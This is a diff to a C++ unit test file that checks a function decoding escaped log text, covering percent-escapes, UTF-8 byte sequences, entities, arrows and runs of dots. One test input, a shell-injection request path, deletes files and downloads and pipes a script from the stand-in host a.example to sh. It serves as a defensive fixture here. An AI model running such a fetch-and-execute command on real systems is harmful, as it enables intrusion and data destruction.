@@ -45,6 +45,42 @@ TEST(Unescaped, DecodesWhatLoggersWrite) {
   EXPECT_EQ(decoded("\uff08evil\uff1acjk.dll\u3011\u2502x"), "(evil:cjk.dll\"\"x");
   EXPECT_EQ(decoded("\u8fde\u63a5\u5230evil.example\u5931\u8d25"), "\u8fde\u63a5\"evil.example\"\u8d25");
   EXPECT_EQ(decoded("C:\\e40\\x.exe\\n at java"), "C:\\e40\\x.exe\n at java");
+  EXPECT_EQ(decoded(R"([\'a.example\', \'b\'])"), "['a.example', 'b']");
+}
+
+TEST(Unescaped, DecodesControlsAndUtf8WrittenByTheByte) {
+  EXPECT_EQ(decoded("x=%0d%0aevil.example%09%00y%u0022"), std::string("x=\r\nevil.example\t\0y\"", 20));
+  EXPECT_EQ(decoded("%E2%80%9Cevil.example%e2%80%9d%C3%A9"), "\u201cevil.example\u201d\u00e9");
+  EXPECT_EQ(decoded("%93evil.example%94 %E2%80 %ed%a0%80"), "\"evil.example\" \"\" \"\"\"");  // no UTF-8
+  EXPECT_EQ(decoded(R"(\xe2\x80\x9cevil\342\200\235 x\\xe2\\x80\\x9c)"), "\u201cevil\u201d x\u201c");
+  EXPECT_EQ(decoded(R"(\ud83d\ude00a &#128512;b)"), "\"\"a \U0001f600b");
+}
+
+TEST(Unescaped, DecodesBlanksOfAQueryBehindMarksOfAShell) {
+  EXPECT_EQ(decoded("/shell?cd+/tmp;rm+-rf+*;wget+http://a.example/m|sh>x+<y+\"z+"),
+            "/shell?cd /tmp;rm -rf *;wget http://a.example/m|sh>x <y \"z ");
+  EXPECT_EQ(decoded("/a?b c+d"), "/a?b c+d");
+  const std::string far(200, 'x');
+  EXPECT_EQ(decoded("?" + far + "+" + far + "+y"), "?" + far + " " + far + " y");
+  EXPECT_EQ(decoded("?" + far + far + "+y"), "?" + far + far + "+y");
+}
+
+TEST(Unescaped, DecodesArrowsCommentsAndRunsOfDots) {
+  EXPECT_EQ(decoded("a.exe->b.exe-->c<!--d.exe-->e<-f a-b <x> -"), "a.exe\"b.exe\"c\"d.exe\"e\"f a-b <x> -");
+  EXPECT_EQ(decoded("2001:db8::1...2001:db8::9 GET..x"), "2001:db8::1\"2001:db8::9 GET\"x");
+  for (const std::string_view text : {"../a/../b", R"(..\a\..\b)", "wait... (x..)", "..", "/..x"})
+    EXPECT_EQ(decoded(text), text);
+}
+
+TEST(Unescaped, TakesForABreakWhatIsNoLetterOfAnyWriting) {
+  for (const std::string_view mark :
+       {"\U0001f600", "\ufffd", "\u2713", "\u2588", "\u20ac", "\u00b0", "\ue0b0", "\u2460", "\u0085"})
+    EXPECT_EQ(decoded(std::string(mark) + "evil.example"), "\"evil.example") << mark;
+  EXPECT_EQ(decoded("\u26a0\ufe0fx"), "\"\"x");  // a sign, and how it shall look
+  for (const std::string_view letter : {"\u00e9", "\u0434", "e\u0301", "\u05d0", "\u0967", "\U0001d400"})
+    EXPECT_EQ(decoded(std::string(letter) + "x \u2713"), std::string(letter) + "x \"") << letter;
+  EXPECT_EQ(decoded("\x93x\x94 \xc3 \xed\xa0\x80 \xf5\x80\x80\x80"),
+            "\"x\" \" \"\"\" \"\"\"\"");  // Windows' code pages
 }
 
 TEST(Unescaped, LeavesWindowsPathsAlone) {
@@ -56,9 +92,9 @@ TEST(Unescaped, LeavesWindowsPathsAlone) {
 }
 
 TEST(Unescaped, LeavesTheRest) {
-  for (const std::string_view text : {"100% of 5%zz and %2", "%00%1f%7f%ff", "a[.b] [. ] (.}", "\u3003 \xe3\x80",
-                                      "%%1833", "%25", "#12 #0 #040", "&quo; &#; &#xd800; &#1234567;",
-                                      "(3)ab(0) (x86) (0)", "\x1b[ ^[[1x", "\u65e5\u672c.\u8a9e", "\\u00 \\xff \\a"}) {
+  for (const std::string_view text : {"100% of 5%zz and %2", "%u12 %U0041", "a[.b] [. ] (.}", "\u00e9t\u00e9", "%%1833",
+                                      "%25", "#12 #0 #040", "&quo; &#; &#xd800; &#1234567;", "(3)ab(0) (x86) (0)",
+                                      "\x1b[ ^[[1x", "\u65e5\u672c.\u8a9e", "\\u00 \\xf \\a \\199", "<x> - -"}) {
     const std::string expected = text == "%25" ? "%" : std::string(text);  // decoded once
     EXPECT_EQ(decoded(text), expected);
   }
@@ -67,17 +103,20 @@ TEST(Unescaped, LeavesTheRest) {
 
 TEST(Unescaped, ABlockAsksExactlyWhereSomethingIsDecoded) {
   std::mt19937 random(5);
-  const std::vector<std::string> pieces{"a",       "%",     "2",    "e",        "%2e",
-                                        "[",       ".",     "]",    "(",        ")",
-                                        "{",       "}",     ":",    "@",        "[.]",
-                                        "(.)",     " ",     "\xe3", "\x80\x82", "\u3002",
-                                        "\uff0e",  "%3A",   "%zz",  "[@]",      std::string(61, 'x'),
-                                        ":\\/\\/", "\\/",   "\\",   "\\n",      "n",
-                                        "u003c",   "x22",   "\"",   "#0",       "11",
-                                        "&quot;",  "&#",    "60;",  "(4)",      "evil",
-                                        "(1)",     "\x1b[", "^[[",  "1m",       "\u4e2d",
-                                        "\u2502",  "\\\\",  "t",    "C:\\",     ".exe",
-                                        "0"};
+  const std::vector<std::string> pieces{"a",        "%",     "2",     "e",        "%2e",
+                                        "[",        ".",     "]",     "(",        ")",
+                                        "{",        "}",     ":",     "@",        "[.]",
+                                        "(.)",      " ",     "\xe3",  "\x80\x82", "\u3002",
+                                        "\uff0e",   "%3A",   "%zz",   "[@]",      std::string(61, 'x'),
+                                        ":\\/\\/",  "\\/",   "\\",    "\\n",      "n",
+                                        "u003c",    "x22",   "\"",    "#0",       "11",
+                                        "&quot;",   "&#",    "60;",   "(4)",      "evil",
+                                        "(1)",      "\x1b[", "^[[",   "1m",       "\u4e2d",
+                                        "\u2502",   "\\\\",  "t",     "C:\\",     ".exe",
+                                        "0",        "\\'",   "?",     "+",        "-",
+                                        ">",        "<!--",  "..",    "\xc3\xa9", "\xf0\x9f",
+                                        "\x98\x80", "%E2",   "%80",   "%9C",      "%u",
+                                        "\\xe2",    "\\x80", "\\x9c", "\\342"};
   std::size_t asked = 0;
   for (int round = 0; round < 20'000; ++round) {
     std::string text;
